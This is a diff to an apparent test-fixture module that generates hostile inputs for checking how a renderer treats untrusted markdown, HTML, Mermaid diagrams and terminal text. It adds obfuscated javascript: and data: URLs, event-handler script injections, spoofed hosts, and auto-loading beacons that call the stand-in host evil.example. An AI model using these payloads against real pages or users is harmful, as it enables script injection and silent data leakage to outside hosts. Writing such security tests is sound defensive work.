@@ -80,6 +80,19 @@ export const HOSTILE_TEXTS = {
     "graph TD\n  style A fill:url(//evil.example)",
     '%% === WORKFLOW_CONFIG ===\n%% @A: {"__proto__": {"owned": 1}}',
   ],
+  urls: [
+    "javascript:globalThis.__owned=1",
+    "//evil.example/a.js",
+    "/\\evil.example",
+    "https:evil.example",
+    "http://evil.example:80@evil.example/",
+    "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9fb3duZWQ9MTwvc2NyaXB0Pg==",
+    "blob:https://evil.example/1",
+    "view-source:https://evil.example",
+    "https://evil.example/?q=%3Cscript%3EglobalThis.__owned=1%3C/script%3E",
+    "https://еvil.example",
+    "https://user:secret@evil.example#\u202egpj.exe",
+  ],
   templates: [
     "{{constructor.constructor('return process')()}}",
     "{{__proto__.owned}}",
@@ -166,4 +179,94 @@ export function hostileTexts(): readonly {
   return HOSTILE_CATEGORIES.flatMap((category) =>
     HOSTILE_TEXTS[category].map((text) => ({ category, text })),
   );
+}
+
+const OUTSIDE = "https://evil.example/beacon";
+const ACT = "globalThis.__owned=1";
+
+const ELEMENTS = ["img src=x", "svg", "body", "video src=x", "input autofocus", "details open"];
+const MOMENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];
+
+const SCRIPT_ADDRESSES = [
+  `javascript:${ACT}`,
+  `JAVASCRIPT:${ACT}`,
+  `java\tscript:${ACT}`,
+  `java\nscript:${ACT}`,
+  `\u0001javascript:${ACT}`,
+  ` javascript:${ACT}`,
+  `javascript&colon;${ACT}`,
+  `&#106;avascript:${ACT}`,
+  `&#x6a;avascript:${ACT}`,
+  `javascript://%0a${ACT}`,
+  `vbscript:${ACT}`,
+  `data:text/html,<script>opener.__owned=1</script>`,
+];
+
+/** Ways in which a text may ask to be followed, in the languages that pages draw. */
+const CARRIERS: readonly ((address: string) => string)[] = [
+  (address) => `[link](${address})`,
+  (address) => `[link](<${address}>)`,
+  (address) => `[link][1]\n\n[1]: ${address}`,
+  (address) => `<${address}>`,
+  (address) => `![picture](${address})`,
+  (address) => `<a href="${address}">link</a>`,
+  (address) => `<form action="${address}"><button autofocus>go</button></form>`,
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `graph TD\n  A[a] --> B[b]\n  click A href "${address}"`,
+  (address) => `\u001b]8;;${address}\u001b\\link\u001b]8;;\u001b\\`,
+];
+
+/** What loads without a click where markup, style or a picture is taken at its word. */
+const BEACONS = [
+  `<img src="${OUTSIDE}">`,
+  `<img srcset="${OUTSIDE} 2x">`,
+  `<picture><source srcset="${OUTSIDE}"><img></picture>`,
+  `<video poster="${OUTSIDE}" src="${OUTSIDE}" autoplay></video>`,
+  `<audio src="${OUTSIDE}" autoplay></audio>`,
+  `<embed src="${OUTSIDE}">`,
+  `<object data="${OUTSIDE}"></object>`,
+  `<script src="${OUTSIDE}"></script>`,
+  `<script type=module>import "${OUTSIDE}"</script>`,
+  `<link rel=preload as=image href="${OUTSIDE}">`,
+  `<link rel=prefetch href="${OUTSIDE}">`,
+  `<p style="background:url(${OUTSIDE})">x</p>`,
+  `<svg><image href="${OUTSIDE}"/></svg>`,
+  `<svg><use href="${OUTSIDE}#a"/></svg>`,
+  `<style>@font-face{font-family:x;src:url(${OUTSIDE})}*{font-family:x}</style>`,
+  `![x](${OUTSIDE})`,
+  `![x](${OUTSIDE} "title")`,
+  `[![x](${OUTSIDE})](${OUTSIDE})`,
+  `![x](//evil.example/beacon)`,
+  `graph TD\n  A["<img src='${OUTSIDE}'>"] --> B`,
+  `graph TD\n  A@{ img: "${OUTSIDE}" }`,
+  `%%{init: {"themeCSS": "*{background:url(${OUTSIDE})}"}}%%\ngraph TD\n A-->B`,
+  `graph TD\n  classDef x fill:url(${OUTSIDE})\n  A:::x`,
+];
+
+const SEQUENCES = [
+  "31m",
+  "2J",
+  "1;1H",
+  "?1049h",
+  "6n",
+  "5i",
+  "8;1;1t",
+  ">c",
+  "s",
+  "1K",
+  "3J",
+  "0c",
+];
+
+/** All of the above, and what comes of crossing ways with means: for what draws texts rather than keeps them. */
+export function shownTexts(): readonly string[] {
+  const crossed = [
+    ...ELEMENTS.flatMap((element) =>
+      MOMENTS.map((moment) => `<${element} ${moment}="${ACT}">${moment}`),
+    ),
+    ...SCRIPT_ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))),
+    ...BEACONS,
+    ...SEQUENCES.flatMap((sequence) => [`\u001b[${sequence}text`, `\u009b${sequence}text`]),
+  ];
+  return [...new Set([...hostileTexts().map(({ text }) => text), ...crossed])];
 }
